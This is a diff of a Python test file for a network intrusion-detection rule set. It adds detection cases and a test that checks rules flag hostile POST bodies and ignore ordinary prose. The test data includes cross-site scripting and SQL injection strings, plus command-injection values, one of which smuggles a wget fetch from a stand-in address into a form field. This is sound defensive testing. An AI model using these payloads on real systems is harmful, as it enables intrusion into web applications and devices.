@@ -73,7 +73,7 @@ CASES = {
     "host-sweep": case(12, ANSWERED, dst_port=8080, **PROBE, **DEVICES),
     "port-scan": case(15, slowly(10), **PORTS),
     "slow-port-scan": case(35, {"dst_port": lambda i: 1000 + i % 20}, **PORTS, **slowly(60)),
-    "udp-port-scan": case(15, {"src_port": 53}, dst_port=lambda i: 1000 + i, **UDP),
+    "udp-port-scan": case(15, {"dst_port": lambda i: 33434 + i}, dst_port=lambda i: 1000 + i, **UDP),
     "udp-host-sweep": case(25, {"dst_ip": each("224.0.0.{}")}, dst_port=5000, **UDP, **DEVICES),
     "ping-sweep": case(10, {"dst_ip": "10.0.0.9"}, **ECHO, **DEVICES),
     "scanner-user-agent": case(1, {"http_user_agent": "Mozilla/5.0"}, **WEB, http_user_agent="sqlmap/1.8"),
@@ -112,6 +112,7 @@ CASES = {
     ),
     "dns-long-name": case(1, {"dns_query": LONG}, **{**DNS, "dns_query": "y" * 60 + "." + LONG}),
     "beacon-to-rare-port": case(12, {"service": "http"}, dst_port=4444, duration=0.1, **TALK, **slowly(10)),
+    "unknown-protocol-on-web-port": case(2, {"service": "http"}, dst_port=8080, **TALK),
     "irc": case(1, {"service": None}, dst_port=6667, service="irc", **TALK),
     "icmp-tunnel": case(1, {"src_size_std_bytes": 0.0}, **ECHO, src_pkts=100, src_size_std_bytes=80.0),
     "known-bad-address": case(1, {"dst_ip": "203.0.114.7"}, dst_ip="203.0.113.7"),
@@ -127,6 +128,7 @@ CASES = {
     ),
     "upnp-from-outside": case(1, {"src_ip": "192.168.1.5"}, **{**WEB, "dst_port": 5000, "src_ip": "198.51.100.7"}),
     "two-macs-for-one-address": case(2, {"dst_mac": "02:00:00:00:00:01"}, dst_mac=each("02:00:00:00:00:0{}"), **TALK),
+    "arp-second-owner": case(1, {"weird_name": None}, proto="arp", weird_name="arp_second_owner"),
     "smb-spread": case(10, {"dst_ip": "10.0.0.9"}, dst_port=445, **DEVICES),
     "bulk-rewrite": case(
         15,
@@ -162,6 +164,35 @@ def test_a_rule_says_what_it_means_and_when_it_is_wrong(name: str) -> None:
     assert rule.family in FAMILIES
     assert FAMILY_NAME.fullmatch(rule.family)
     assert rule.file.stem == rule.name
+
+
+POSTED = {
+    "script-in-request": (
+        ["text=<script>alert(1)</script>", "name=x&text=<img+src=x+onerror=alert(1)>", "t=<a href='javascript:run()'>"],
+        ["text=<b>bold</b> and <img src=cat.png>", "text=a < b; we go on = good", "say=javascript: why I like it"],
+    ),
+    "sql-in-request": (
+        ["user=admin' OR '1'='1&password=x", "q=x')+UNION+SELECT+name,pass+FROM+users"],
+        ["text=that's a union; select what's best", "text=Tom's and Ann's = 2", "text=it's -- well -- fine"],
+    ),
+    "command-in-request": (
+        [
+            "target_addr=;wget http://198.51.100.7/x&waninf=1",
+            "host=`busybox`",
+            "ip=1.1.1.1|/bin/busybox+ps",
+            "a=$(tftp",
+        ],
+        ["text=a dog; cat and mouse", "text=(costs $(5)", "text=I use curl; it is nice"],
+    ),
+}
+
+
+@pytest.mark.parametrize("name", POSTED)
+def test_a_rule_reads_what_is_posted_and_leaves_prose_alone(name: str) -> None:
+    rule, (hits, misses) = SPEAKING[name], POSTED[name]
+    texts = [*hits, *misses]
+    flows = rows(len(texts), **{**WEB, "http_method": "POST", "http_post_body": texts.__getitem__})
+    assert rule.hits(Columns(flows), rule.window()).tolist() == [True] * len(hits) + [False] * len(misses)
 
 
 def test_rules_that_only_count_have_no_level_that_alarms() -> None:
